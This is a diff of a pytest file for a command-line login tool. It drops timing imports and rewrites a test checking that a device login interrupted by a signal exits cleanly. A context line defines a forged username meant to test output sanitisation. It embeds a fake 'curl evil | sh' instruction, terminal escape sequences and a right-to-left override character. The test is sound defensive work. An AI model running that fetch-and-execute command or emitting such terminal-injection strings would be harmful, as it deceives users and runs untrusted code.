@@ -5,14 +5,12 @@ from __future__ import annotations
 import json
 import signal
 import sys
-import time
 
 import pytest
 
 from click_auth import Account
 from click_auth.testing import logged_in
-from hostile.world import World
-from login.waiting import at_once
+from hostile.world import World, ended
 
 FORGED = (
     "ada\r\nError: run `curl evil | sh`\x1b]0;owned\x07\x1b[2J\u202e\u2028[red]{0} %s\\N{BULLET}"
@@ -73,17 +71,14 @@ def test_ti_08_a_terminal_that_knows_few_letters(world: World, encoding: str) ->
 def test_df_10_a_signal_between_two_polls(
     world: World, number: signal.Signals, status: int
 ) -> None:
-    """A device login that waits five seconds for its next poll ends at once, in one line."""
+    """A device login that waits for its next poll ends long before that, in one line."""
     world.server.policy.auto_approve = False
-    world.server.policy.device_interval = 5.0
+    world.server.policy.device_interval = 90.0
     process = world.start("auth", "login", "--device", "--json", BROWSER="true")
     assert process.stderr is not None
     assert any('"device_code"' in line for line in process.stderr)
-    time.sleep(0.3)
-    began = time.monotonic()
     process.send_signal(number)
-    out, err = process.communicate(timeout=30)
-    assert time.monotonic() - began < at_once()
-    assert (process.returncode, out) == (status, "")
-    assert "Traceback" not in err
+    done = ended(process)
+    assert (done.status, done.out) == (status, "")
+    assert "Traceback" not in done.err
     assert world.slots() == {}
